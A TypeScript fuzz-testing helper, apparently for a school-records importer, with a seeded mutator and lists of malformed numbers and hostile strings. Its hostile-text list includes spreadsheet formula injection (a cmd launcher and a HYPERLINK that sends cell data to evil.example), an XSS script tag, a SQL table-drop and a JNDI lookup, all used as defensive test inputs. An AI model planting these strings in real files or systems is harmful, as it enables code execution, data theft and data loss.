/**
 * A small, seeded mutator shared by the fuzz tests: bit flips, truncation, splices,
 * duplication, huge numbers, hostile text (Vietnamese with combining marks, NUL, RTL
 * overrides, BOMs, CRLF) and spreadsheet formula injection. Every choice comes from one
 * seeded PRNG so a failing case replays exactly from its seed.
 */

/** mulberry32: tiny, fast and good enough to pick mutations. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface Rand {
  next(): number;
  int(maxExclusive: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
}

export function rand(seed: number): Rand {
  const next = rng(seed);
  return {
    next,
    int: (max) => Math.floor(next() * Math.max(1, max)),
    pick: (items) => items[Math.floor(next() * items.length)]!,
    chance: (p) => next() < p,
  };
}

/** Strings that break naive importers; each is a realistic thing to find in a school's file. */
export const HOSTILE_TEXT: readonly string[] = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
  '+SUM(1+1)*cmd|\'/C calc\'!A0',
  '-2+3',
  '@SUM(A1:A2)',
  'Nguyễn Văn An',
  'Nguye\u0302\u0303n Thi\u0323 La\u0300nh', // decomposed (NFD) Vietnamese
  'NguyÔn ThÞ Lan', // TCVN3 read as Latin-1
  'Nguyeãn Thò Lan', // VNI read as Latin-1
  'a\u0000b',
  '\u202Enaé\u202C', // right-to-left override
  '\u05e9\u05dc\u05d5\u05dd عربى',
  '\uFEFFHọ tên',
  '\uD800', // lone surrogate
  'x'.repeat(5000),
  '"quoted, ""comma"""',
  'line\r\nbreak',
  '\t\t',
  '<script>alert(1)</script>',
  "'; drop table students; --",
  '${jndi:ldap://x}',
  '💯🏫',
  '',
  ' ',
];

export const HUGE_NUMBERS: readonly string[] = [
  '1e308', '-1e308', '1e309', 'NaN', 'Infinity', '-0', '0x10', '9'.repeat(400), '10,5', '10.5000000000000001', '1/1/1900', '31/02/2010', '00/00/0000', '99999999999999999999',
];

const BOMS: readonly Buffer[] = [Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from([0xff, 0xfe]), Buffer.from([0xfe, 0xff])];

export type MutationName = 'flip' | 'truncate' | 'splice' | 'duplicate' | 'insert-text' | 'insert-number' | 'bom' | 'crlf' | 'zero-run' | 'delete-run';

/** One random mutation of `input`; the name says which (printed when a case fails). */
export function mutateBytes(r: Rand, input: Buffer, donor?: Buffer): { out: Buffer; how: string } {
  const kinds: MutationName[] = ['flip', 'truncate', 'splice', 'duplicate', 'insert-text', 'insert-number', 'bom', 'crlf', 'zero-run', 'delete-run'];
  const kind = r.pick(kinds);
  const at = r.int(input.length + 1);
  switch (kind) {
    case 'flip': {
      const out = Buffer.from(input);
      const n = 1 + r.int(8);
      for (let i = 0; i < n && out.length; i++) {
        const p = r.int(out.length);
        out[p] = out[p]! ^ (1 << r.int(8));
      }
      return { out, how: `flip ${n} bits` };
    }
    case 'truncate':
      return { out: input.subarray(0, at), how: `truncate at ${at}` };
    case 'splice': {
      const d = donor ?? input;
      const from = r.int(d.length);
      const len = r.int(Math.min(256, d.length - from + 1));
      return { out: Buffer.concat([input.subarray(0, at), d.subarray(from, from + len), input.subarray(at + r.int(64))]), how: `splice ${len} bytes at ${at}` };
    }
    case 'duplicate': {
      const len = r.int(Math.min(512, input.length - at + 1));
      const piece = input.subarray(at, at + len);
      return { out: Buffer.concat([input.subarray(0, at + len), piece, input.subarray(at + len)]), how: `duplicate ${len} bytes at ${at}` };
    }
    case 'insert-text': {
      const t = r.pick(HOSTILE_TEXT);
      return { out: Buffer.concat([input.subarray(0, at), Buffer.from(t, 'utf8'), input.subarray(at)]), how: `insert text at ${at}: ${JSON.stringify(t.slice(0, 40))}` };
    }
    case 'insert-number': {
      const t = r.pick(HUGE_NUMBERS);
      return { out: Buffer.concat([input.subarray(0, at), Buffer.from(t, 'latin1'), input.subarray(at)]), how: `insert number at ${at}: ${t.slice(0, 40)}` };
    }
    case 'bom':
      return { out: Buffer.concat([r.pick(BOMS), input]), how: 'prefix a BOM' };
    case 'crlf':
      return { out: Buffer.from(input.toString('latin1').replace(/\r?\n/g, r.chance(0.5) ? '\r\n' : '\r'), 'latin1'), how: 'line ends → CRLF/CR' };
    case 'zero-run': {
      const len = 1 + r.int(64);
      return { out: Buffer.concat([input.subarray(0, at), Buffer.alloc(len), input.subarray(at + len)]), how: `zero ${len} bytes at ${at}` };
    }
    case 'delete-run': {
      const len = 1 + r.int(64);
      return { out: Buffer.concat([input.subarray(0, at), input.subarray(at + len)]), how: `delete ${len} bytes at ${at}` };
    }
  }
}

/** Applies 1..max mutations in a row. */
export function mutate(r: Rand, input: Buffer, max = 3, donor?: Buffer): { out: Buffer; how: string[] } {
  let out = input;
  const how: string[] = [];
  const n = 1 + r.int(max);
  for (let i = 0; i < n; i++) {
    const m = mutateBytes(r, out, donor);
    out = m.out;
    how.push(m.how);
  }
  return { out, how };
}

/** A hostile cell value: mostly plausible, sometimes hostile text or a huge number. */
export function hostileCell(r: Rand, plausible: string): string {
  const x = r.next();
  if (x < 0.5) return plausible;
  if (x < 0.8) return r.pick(HOSTILE_TEXT);
  return r.pick(HUGE_NUMBERS);
}

/** How many cases a fuzz test runs: its default, or HOCBA_FUZZ_CASES for longer runs. */
export function caseCount(defaultCases: number): number {
  const n = Number(process.env.HOCBA_FUZZ_CASES);
  return Number.isInteger(n) && n > 0 ? n : defaultCases;
}

/** The base seed: HOCBA_FUZZ_SEED replays a run; otherwise a fixed seed so `npm test` is deterministic. */
export function baseSeed(name: string): number {
  const fixed = Number(process.env.HOCBA_FUZZ_SEED);
  if (Number.isInteger(fixed)) return fixed >>> 0;
  let h = 2166136261;
  for (const ch of name) h = Math.imul(h ^ ch.charCodeAt(0), 16777619);
  return h >>> 0;
}

/**
 * Runs `cases` fuzz cases, case i with seed base+i. A failure names the case's seed and how
 * to replay exactly that case (HOCBA_FUZZ_SEED=<seed> HOCBA_FUZZ_CASES=1).
 */
export async function fuzz(name: string, defaultCases: number, body: (r: Rand, seed: number) => Promise<string | void> | string | void): Promise<void> {
  const base = baseSeed(name);
  const cases = caseCount(defaultCases);
  for (let i = 0; i < cases; i++) {
    const seed = (base + i) >>> 0;
    try {
      await body(rand(seed), seed);
    } catch (err) {
      const e = err as Error;
      e.message = `fuzz "${name}" failed at case ${i} (seed ${seed}; replay: HOCBA_FUZZ_SEED=${seed} HOCBA_FUZZ_CASES=1 npm test -- test/fuzz/): ${e.message}`;
      throw e;
    }
  }
}
